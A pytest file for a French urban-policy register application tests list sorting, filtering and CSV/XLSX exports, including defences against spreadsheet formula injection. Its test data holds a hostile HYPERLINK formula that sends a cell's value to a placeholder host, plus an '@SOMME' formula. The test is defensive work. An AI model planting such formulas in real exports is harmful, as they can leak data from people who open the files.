"""Lists filter and sort on every column shown and export exactly what is shown; every
register export neutralises formulas (issue 9, point 3)."""

from __future__ import annotations

import html
import io
import re
import zipfile
from typing import Any

import pytest

LISTES = {
    "/registre/contrats/": "quartiers.registre.contrats.views",
    "/registre/actions/": "quartiers.registre.financements.views:colonnes_actions",
    "/registre/actions/postes/": "quartiers.registre.financements.views:colonnes_postes",
    "/registre/npnru/": "quartiers.registre.npnru.views",
}
FORMULE = '=HYPERLINK("http://exemple.invalid/?"&A2;"Cliquez")'


def _colonnes(spec: str) -> list[Any]:
    import importlib

    module, _, nom = spec.partition(":")
    return getattr(importlib.import_module(module), nom or "colonnes")()


def _premiere_colonne_html(page: str) -> list[str]:
    corps = page[page.index("<tbody>"):page.index("</tbody>")]
    lignes = re.findall(r"<tr>(.*?)</tr>", corps, re.S)
    return [html.unescape(re.sub(r"<[^>]+>", "", re.findall(r"<td>(.*?)</td>", r, re.S)[0]))
            for r in lignes if "Aucune ligne" not in r]


def _premiere_colonne_csv(contenu: bytes) -> list[str]:
    lignes = contenu.decode("utf-8-sig").strip().splitlines()[1:]
    return [ligne.split(";")[0] for ligne in lignes]


@pytest.fixture
def postes(monde: Any) -> None:
    from quartiers.registre.financements.models import PosteFinance

    for i, (montant, contrat) in enumerate(((2_255_573, monde.contrat_a),
                                            (716_400, None), (100, monde.contrat_b))):
        PosteFinance.objects.create(
            dispositif="fonjep" if i == 1 else "adulte_relais", programme="147", annee=2023,
            identifiant=f"P{i}", code_tiers=f"tiers {i}", beneficiaire_nom=f"Employeur {i}",
            montant=montant, contrat=contrat, departement=monde.dep69, region=monde.region,
            code_contrat_source=contrat.reference if contrat else "", source="synthétique",
            enregistrement=i + 1)


@pytest.mark.parametrize("url", list(LISTES))
def test_chaque_colonne_filtre_trie_et_exporte_ce_qui_est_montre(
        monde: Any, client_de: Any, postes: None, url: str) -> None:
    from quartiers.registre.listes import BOOLEEN, CHOIX, MONTANT, NOMBRE

    c = client_de("lecteur")
    colonnes = _colonnes(LISTES[url])
    for col in colonnes:
        for tri in (col.cle, f"-{col.cle}"):
            page = c.get(url, {"tri": tri})
            assert page.status_code == 200, (url, tri)
            montre = _premiere_colonne_html(page.content.decode())
            export = c.get(url, {"tri": tri, "format": "csv"})
            assert export["Content-Type"].startswith("text/csv")
            assert _premiere_colonne_csv(export.content) == montre, (url, tri)
        if col.genre in (NOMBRE, MONTANT):
            filtres = {f"{col.cle}_min": "1", f"{col.cle}_max": "1000000"}
        elif col.genre == BOOLEEN:
            filtres = {col.cle: "non"}
        elif col.genre == CHOIX:
            filtres = {col.cle: col.choix[0][0]}
        else:
            filtres = {col.cle: "a"}
        page = c.get(url, filtres)
        assert page.status_code == 200, (url, filtres)
        export = c.get(url, {**filtres, "format": "csv"})
        assert _premiere_colonne_csv(export.content) == \
            _premiere_colonne_html(page.content.decode()), (url, filtres)
        xlsx = c.get(url, {**filtres, "format": "xlsx"})
        assert xlsx.status_code == 200 and xlsx.content[:2] == b"PK"


def test_filtre_et_export_des_postes(monde: Any, client_de: Any, postes: None) -> None:
    c = client_de("lecteur")
    export = c.get("/registre/actions/postes/", {"contrat": "CV-A", "format": "csv"})
    lignes = export.content.decode("utf-8-sig").strip().splitlines()
    assert lignes[0].split(";")[:3] == ["Dispositif", "Poste", "Année"]
    assert len(lignes) == 2 and lignes[1].split(";")[9] == "22555.73"
    page = c.get("/registre/actions/postes/", {"montant_min": "7 164", "tri": "-montant"})
    assert _premiere_colonne_html(page.content.decode()) == ["adulte-relais", "FONJEP"]
    assert c.get("/registre/actions/postes/", {"montant_min": "1e999999999"}).status_code \
        == 400


def test_exports_neutralisent_les_formules(monde: Any, client_de: Any) -> None:
    """Issue 9, point 3: ``=HYPERLINK(...)`` goes out as text in every register export."""
    from openpyxl import load_workbook

    from quartiers.registre.echanges.importation import importer

    monde.contrat_a.intitule = FORMULE
    monde.contrat_a.save()
    monde.action_a.porteur = "@SOMME(1+1)"
    monde.action_a.save()
    c = client_de("lecteur")
    exports = [c.get("/registre/echanges/export/contrats.csv"),
               c.get("/registre/contrats/", {"format": "csv"})]
    for resp in exports:
        texte = resp.content.decode("utf-8-sig")
        assert "'" + FORMULE.replace('"', '""') in texte
        assert not re.search(r'(^|;)"?=HYPERLINK', texte, re.M)
    texte = c.get("/registre/echanges/export/actions.csv").content.decode("utf-8-sig")
    assert ";'@SOMME(1+1);" in texte
    for resp in (c.get("/registre/echanges/export/tout.xlsx"),
                 c.get("/registre/contrats/", {"format": "xlsx"})):
        archive = zipfile.ZipFile(io.BytesIO(resp.content))
        feuilles = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) for n in feuilles)  # no formula anywhere
        wb = load_workbook(io.BytesIO(resp.content))
        cellules = [cell for ws in wb for row in ws.iter_rows() for cell in row
                    if cell.value == FORMULE]
        assert cellules and all(cell.data_type == "s" and cell.quotePrefix
                                for cell in cellules)
    # what was exported comes back as it was (the apostrophe is removed on import)
    r = importer("c.csv", exports[0].content, "contrats", monde.users["admin"],
                 appliquer=True)
    assert r.applique, r.erreurs
    monde.contrat_a.refresh_from_db()
    assert monde.contrat_a.intitule == FORMULE
